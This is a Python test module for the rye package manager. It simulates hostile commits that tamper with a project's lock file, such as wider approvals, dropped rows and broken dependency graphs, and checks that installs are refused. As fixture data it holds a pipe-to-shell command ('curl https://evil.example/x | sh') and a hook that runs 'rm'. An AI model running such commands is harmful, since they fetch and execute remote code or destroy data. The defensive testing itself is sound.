"""Incomplete locks, and approvals that go beyond the item (DESIGN 6.1, Complete and Agreed here)."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from functools import cache

import pytest
from msgspec.structs import replace

from rye.items.consented import HookAction, Run
from rye.items.identity import Identity
from rye.project.lock import Lock
from tests.attacks.hostile_repository.attacks import Attack, CloneAttackRunner, everywhere, rows
from tests.attacks.hostile_repository.clones import Clone, Posture
from tests.attacks.hostile_repository.upstream import (
    AGENT,
    BUNDLE,
    CHECK,
    DEPLOY,
    ENEMY,
    KNOWLEDGE,
    LINT,
    NEEDY,
    REVIEW,
    SKILL,
    WIDE,
    Upstream,
)
from tests.registry.simulated_registry import key
from tests.scenes.approvals import but
from tests.scenes.effort import rest_thorough
from tests.scenes.person import Person

pytestmark = pytest.mark.slow

Act = Callable[[Clone], object]


def row(identity: Identity, **words: object) -> Act:
    return lambda clone: clone.edit_row(identity, **words)


def lost(identity: Identity) -> Act:
    """Remove an item's row and its file, as a conflict-free git merge of two branches can."""

    def act(clone: Clone) -> None:
        clone.file_of(identity).unlink()
        clone.drop_row(identity)

    return act


def lost_row(clone: Clone) -> None:
    """Remove the row and leave the file, so that it looks hand-written."""
    clone.drop_row(CHECK)


@cache
def elsewhere(upstream: Upstream, identity: Identity, version: str) -> Person:
    """Another user's project with one item, whose row and file are genuine."""
    made = Person(upstream.base / f"elsewhere-{identity.local_id.replace('/', '-')}-{version}")
    shutil.rmtree(made.home)
    home = upstream.home_of("pinned")
    assert home is not None
    shutil.copytree(home, made.home)
    made.write(
        "rye.toml",
        f'[project]\nregistry = "{upstream.url}"\n[environment]\nprovides = ["docker"]\n'
        f'[dependencies]\n"{identity}" = "={version}"\n',
    )
    made.ok("install", "--yes")
    return made


def brought(identity: Identity, version: str = "1.0.0", *, wanted: bool = False) -> Act:
    """Add a genuine row and its signed file from another project. ``wanted``: rye.toml asks for it as well."""

    def act(clone: Clone) -> None:
        from rye.project.lock import parse_lock
        from rye.project.lock_file import item_path

        other = elsewhere(clone.upstream, identity, version)
        found = parse_lock(other.path("rye.lock").read_text()).find(identity)
        assert found is not None
        lock, words = clone.lock, {}
        if wanted:
            words = {str(identity): "*"}
            clone.manifest(lambda text: text.replace("[dependencies]\n", f'[dependencies]\n"{identity}" = "*"\n'))
        items = (*(one for one in lock.items if one.identity != identity), found)
        clone.put_lock(Lock({**lock.wanted, **words}, items))
        clone.write(item_path(found), other.path(item_path(found)).read_bytes())

    return act


def asks_for(wanted: str, *, manifest: bool) -> Act:
    """Change the range in both ``[wanted]`` of the lock and rye.toml."""

    def act(clone: Clone) -> None:
        clone.put_lock(replace(clone.lock, wanted={**clone.lock.wanted, str(DEPLOY): wanted}))
        if manifest:
            clone.manifest(lambda text: text.replace('deploy" = "^1.0.0"', f'deploy" = "{wanted}"'))

    return act


def emptied(clone: Clone) -> None:
    clone.put_lock(Lock({}, ()))
    clone.without_files()


def one_hook_more(clone: Clone) -> None:
    more = HookAction("true", "tool", "shell/run", (("command", "rm"),))
    clone.edit_row(DEPLOY, approved=but(hook=(*clone.row(DEPLOY).hooks, more)))


def other_hook_inputs(clone: Clone) -> None:
    [hook] = clone.row(DEPLOY).hooks
    clone.edit_row(DEPLOY, approved=but(hook=(hook, replace(hook, inputs=(("amount", "1000"),)))))


def one_run_more(clone: Clone) -> None:
    more = Run("attached-file", "scripts/more.sh", "#!/bin/sh, executable", "0" * 64)
    clone.edit_row(SKILL, approved=but(run=(*clone.row(SKILL).runs, more)))


def runs_of_other_bytes(clone: Clone) -> None:
    runs = clone.row(SKILL).runs
    clone.edit_row(SKILL, approved=but(run=(*runs, *(replace(one, sha256="0" * 64) for one in runs))))


def one_alarm_more(clone: Clone) -> None:
    """Approve in advance an alarm that the next version would raise."""
    more = "pipe-to-shell curl https://evil.example/x | sh"
    clone.edit_row(SKILL, approved=but(fact=tuple(sorted((*clone.row(SKILL).approved.of("fact"), more)))))


def broken(rule: str, repair: str = "ok") -> dict[str, str]:
    """Outcomes for a lock that breaks a rule over genuine items, which readers may print."""
    return {"install": "lock-does-not-fit", "repair": repair, "audit": f"{rule}|lock-does-not-fit", "check": rule}


def beyond(name: str, act: Act, item: Identity = DEPLOY) -> Attack:
    """An attack that approves something that the item does not have."""
    return Attack(name=name, act=act, outcomes=broken("G5"), item=item, postures=("given", "member"))


BEYOND = (
    beyond("rye.* is approved for an item with few rights", row(DEPLOY, approved=but(right=("rye.*",)))),
    beyond(
        "rye.* is approved for what the next version asks",
        row(WIDE, approved=but(right=("rye.execute.*", "rye.search.tool.*"))),
        WIDE,
    ),
    beyond(
        "a right in a wider spelling is approved",
        row(DEPLOY, approved=but(right=("rye.execute.tool.shell.*", "rye.search.tool.*"))),
    ),
    beyond("a hook that the item does not have is approved", one_hook_more),
    beyond("a hook with other inputs is approved", other_hook_inputs),
    beyond("a run that the skill does not have is approved", one_run_more, SKILL),
    beyond("runs of other bytes are approved", runs_of_other_bytes, SKILL),
    beyond("an alarm that the skill does not have is approved", one_alarm_more, SKILL),
    beyond(
        "an alarm is approved for an item without any",
        row(CHECK, approved=but(fact=("pipe-to-shell curl x | sh",))),
        CHECK,
    ),
    beyond(
        "a tool that the agent does not ask for is approved",
        row(AGENT, approved=but(tool=("Bash", "Edit", "Read"))),
        AGENT,
    ),
    beyond("every tool is approved for an agent", row(AGENT, approved=but(tool=("*",), limit=())), AGENT),
    beyond("an agent's tools are approved without their restrictions", row(AGENT, approved=but(limit=())), AGENT),
)
_ASKED = {"install": "consent-needed", "check": "ok", "sbom": "ok"}
LESS = (
    Attack(name="a right that is not approved", act=row(DEPLOY, approved=but(right=())), outcomes=_ASKED),
    Attack(
        name="runs that are not approved",
        act=row(SKILL, approved=but(run=())),
        outcomes={**_ASKED, "repair": "consent-needed"},
        item=SKILL,
    ),
    Attack(
        name="an alarm that is not approved",
        act=row(SKILL, approved=but(fact=())),
        outcomes={**_ASKED, "repair": "consent-needed"},
        item=SKILL,
    ),
    Attack(
        name="tools that are not approved", act=row(AGENT, approved=but(tool=(), limit=())), outcomes=_ASKED, item=AGENT
    ),
    Attack(name="a row that says that nobody approved it", act=row(DEPLOY, approved=but(signer="")), outcomes=_ASKED),
    Attack(
        name="a row that was approved for another signer",
        act=row(DEPLOY, approved=but(signer=key("thief").public.fingerprint)),
        outcomes={**_ASKED, "repair": "consent-needed"},
    ),
)
GRAPH = (
    Attack(
        name="a direct dependency that a merge lost",
        act=lost(KNOWLEDGE),
        outcomes=broken("G1"),
        postures=("given", "member"),
    ),
    Attack(
        name="a dependency of an item that a merge lost",
        act=lost(CHECK),
        outcomes=broken("G2"),
        postures=("given", "member"),
    ),
    Attack(name="a member of a bundle that a merge lost", act=lost(LINT), outcomes=broken("G2"), item=BUNDLE),
    Attack(
        name="a row that is gone while its file stays",
        act=lost_row,
        outcomes={**broken("G2"), "install": "lock-does-not-fit|edited-files"},
    ),
    Attack(
        name="dependencies that were emptied",
        act=row(DEPLOY, dependencies=()),
        outcomes=broken("G2"),
        postures=("given", "member"),
    ),
    Attack(
        name="dependencies that the release has not",
        act=row(DEPLOY, dependencies=(str(CHECK), str(WIDE))),
        outcomes=broken("G2"),
    ),
    Attack(name="a dependency out of its range", act=brought(CHECK, "2.0.0"), outcomes=broken("G2")),
    Attack(name="a main item in a group that ci may leave out", act=row(CHECK, groups=("dev",)), outcomes=broken("G3")),
    Attack(name="a group's item among the main ones", act=row(REVIEW, groups=("main",)), outcomes=broken("G3")),
    Attack(name="a group that nobody declared", act=row(REVIEW, groups=("prod",)), outcomes=broken("G3")),
    Attack(
        name="an item that nobody needs, genuine and signed",
        act=brought(ENEMY),
        outcomes=broken("G4"),
        postures=("given", "member"),
    ),
    Attack(
        name="two items that exclude each other",
        act=brought(ENEMY, wanted=True),
        outcomes=broken("G6", repair="lock-does-not-fit"),
    ),
    Attack(
        name="a range in the lock that rye.toml does not have",
        act=asks_for("^2", manifest=False),
        outcomes=broken("G1"),
    ),
    Attack(
        name="a range in both that the locked version is out of",
        act=asks_for("^2", manifest=True),
        outcomes=broken("G1", repair="unsolvable"),
    ),
    Attack(
        name="a feature that the project does not provide",
        act=brought(NEEDY, wanted=True),
        outcomes=broken("G2|G6", repair="unsolvable"),
    ),
    Attack(
        name="a lock with nothing in it",
        act=emptied,
        outcomes={
            "install": "lock-does-not-fit",
            "repair": "consent-needed",
            "audit": "G1",
            "check": "G1",
            "read": "no-such-item",
        },
    ),
    Attack(
        name="a rye.toml that wants nothing any more",
        act=lambda clone: clone.manifest(lambda text: text[: text.index("[dependencies]")]),
        outcomes={"install": "lock-does-not-fit", "audit": "G4", "check": "G4", "read": "ok"},
    ),
    Attack(
        name="a lock that is gone",
        act=lambda clone: clone.path("rye.lock").unlink(),
        outcomes=everywhere(
            "not-locked", install="no-lock", repair="edited-files", audit="G1", check="G1", list="", sbom="no-lock"
        ),
    ),
    Attack(
        name="a rye.toml that is gone",
        act=lambda clone: clone.path("rye.toml").unlink(),
        outcomes=everywhere(
            "unverified-item",
            install="no-manifest",
            repair="no-manifest",
            audit="no-manifest",
            check="no-manifest",
            list="unverified",
        ),
    ),
)


@pytest.mark.parametrize(("attack", "posture"), rows(BEYOND))
def test_an_approval_beyond_the_item_installs_nothing(
    runner: CloneAttackRunner, attack: Attack, posture: Posture
) -> None:
    runner.perform(attack, posture)


@pytest.mark.parametrize(("attack", "posture"), rows(LESS))
def test_trusting_the_lock_agrees_to_nothing_more_than_it_approves(
    runner: CloneAttackRunner, attack: Attack, posture: Posture
) -> None:
    runner.perform(attack, posture)


@pytest.mark.parametrize(("attack", "posture"), rows(GRAPH))
def test_an_incomplete_lock_installs_nothing(runner: CloneAttackRunner, attack: Attack, posture: Posture) -> None:
    runner.perform(attack, posture)


@pytest.mark.parametrize(
    "act",
    rest_thorough(4, [None, *(one.act for one in BEYOND)]),
    ids=["the honest lock", *(one.name for one in BEYOND)],
)
def test_a_visitor_is_asked_before_anything_else(runner: CloneAttackRunner, act: Act | None) -> None:
    """Whatever a lock approves, a reader who pinned the registry and agreed to nothing installs nothing from it unasked."""
    clone = runner.clone("visitor")
    if act is not None:
        act(clone)
    clone.without_files()
    for words in (("ci", "--yes"), ("install", "--yes")):
        refused = clone.read(*words)
        assert refused.code == 1
        assert refused.error["code"] in ("project-not-accepted", "lock-does-not-fit")
    assert not clone.path(".ai/packages").exists()


class TestAMemberWhoAgreed:
    """A reader who agreed to the honest project pulls a hostile commit. ``RYE_TRUST_LOCK`` is not set."""

    @pytest.fixture
    def member(self, runner: CloneAttackRunner) -> Clone:
        return runner.agreed()

    def test_pulls_and_goes_on(self, member: Clone) -> None:
        for words in (("ci",), ("install",), ("render", str(DEPLOY)), ("lock", "--check")):
            member.ok(*words)

    def test_is_asked_about_a_version_with_wider_rights(self, member: Clone) -> None:
        """A genuine, signed version in range, which the committer approved in the lock."""
        brought(WIDE, "1.1.0")(member)
        before = member.path("rye.lock").read_bytes()
        for words in (("ci",), ("ci", "--yes"), ("install", "--yes"), ("install", "--frozen", "--yes")):
            refused = member.read(*words)
            assert refused.error["code"] == "project-not-accepted", words
            assert [one["value"] for one in refused.error["approvals"]] == ["rye.execute.*"]
        assert member.path("rye.lock").read_bytes() == before

    def test_is_asked_about_a_hook_that_was_approved_by_a_commit(self, member: Clone) -> None:
        honest = member.row(DEPLOY).approved.of("hook")
        member.edit_row(DEPLOY, approved=but(hook=()))
        member.ok("ci")
        member.edit_row(DEPLOY, approved=but(hook=honest))
        member.ok("ci")  # agreed to before

    def test_executes_no_hook_that_only_a_commit_approved(self, runner: CloneAttackRunner) -> None:
        visitor = runner.clone("visitor")
        found = visitor.ok("hooks", "eval", DEPLOY.id, "--context", "context.json", "--json").json
        assert (found["actions"], [one["reason"] for one in found["skipped"]]) == ([], ["it is not approved here"])
        member = runner.agreed()
        found = member.ok("hooks", "eval", DEPLOY.id, "--context", "context.json", "--json").json
        assert len(found["actions"]) == 1
